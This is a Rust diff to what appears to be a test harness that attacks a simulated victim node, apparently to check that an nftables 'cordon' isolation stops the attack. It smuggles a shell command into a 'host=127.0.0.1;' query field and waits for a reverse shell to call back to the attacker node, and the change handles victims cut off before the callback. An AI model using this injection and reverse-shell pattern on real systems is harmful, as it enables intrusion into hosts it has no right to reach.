@@ -33,9 +33,10 @@ fn payload(listener: &str) -> String {
     )
 }
 
-/// The open shell, seen from the attacker's chair.
+/// The shell, seen from the attacker's chair. There is none when the victim was cut off before the
+/// shell could call.
 pub struct Attack {
-    shell: TcpStream,
+    shell: Option<TcpStream>,
 }
 
 impl Attack {
@@ -72,7 +73,7 @@ impl Attack {
         Ok(())
     }
 
-    /// Uses the flaw, and waits for the shell to call back.
+    /// Uses the flaw, and waits for the shell to call back, or for the victim to be cut off first.
     pub fn open(attacker: &Node, victim: &Node) -> Result<Self> {
         let listening = SocketAddr::new(attacker.address_v4().into(), SHELL_PORT);
         let listener = attacker.within_network(|| Ok(TcpListener::bind(listening)?))?;
@@ -80,24 +81,36 @@ impl Attack {
         let line = payload(&attacker.address_v4().to_string());
         let query = format!("host=127.0.0.1;{line}");
         drop(request(attacker, victim, &encode(&query))?);
-        let shell = wait::until("the shell's call", PATIENCE, || {
-            Ok(Some(listener.accept()?.0))
+        let shell = wait::until("the shell's call", PATIENCE, || match listener.accept() {
+            Ok((shell, _)) => Ok(Some(Some(shell))),
+            Err(_) if is_cut_off(victim)? => Ok(Some(None)),
+            Err(error) => Err(error.into()),
         })?;
-        shell.set_nonblocking(false)?;
-        shell.set_read_timeout(Some(READ_SLICE))?;
+        if let Some(shell) = &shell {
+            shell.set_nonblocking(false)?;
+            shell.set_read_timeout(Some(READ_SLICE))?;
+        }
         Ok(Self { shell })
+    }
+
+    /// Whether the attacker got a shell at all.
+    pub fn has_shell(&self) -> bool {
+        self.shell.is_some()
     }
 
     /// Types a line and reads until `expected` comes back; false when it does not within `limit`.
     pub fn ask(&mut self, line: &str, expected: &str, limit: Duration) -> Result<bool> {
-        if writeln!(self.shell, "{line}").is_err() {
+        let Some(shell) = &mut self.shell else {
+            return Ok(false);
+        };
+        if writeln!(shell, "{line}").is_err() {
             return Ok(false);
         }
         let deadline = Instant::now() + limit;
         let mut heard = Vec::new();
         let mut buffer = [0; 4096];
         while Instant::now() < deadline {
-            match self.shell.read(&mut buffer) {
+            match shell.read(&mut buffer) {
                 Ok(0) => return Ok(false),
                 Ok(count) => heard.extend_from_slice(&buffer[..count]),
                 Err(error) if is_timeout(&error) => {}
@@ -109,6 +122,12 @@ impl Attack {
         }
         Ok(false)
     }
+}
+
+/// Whether the node's own kernel holds an isolation.
+pub fn is_cut_off(node: &Node) -> Result<bool> {
+    let list = ["nft", "list", "table", "inet", "cordon"];
+    Ok(node.exec(&list)?.status.success())
 }
 
 fn is_timeout(error: &std::io::Error) -> bool {
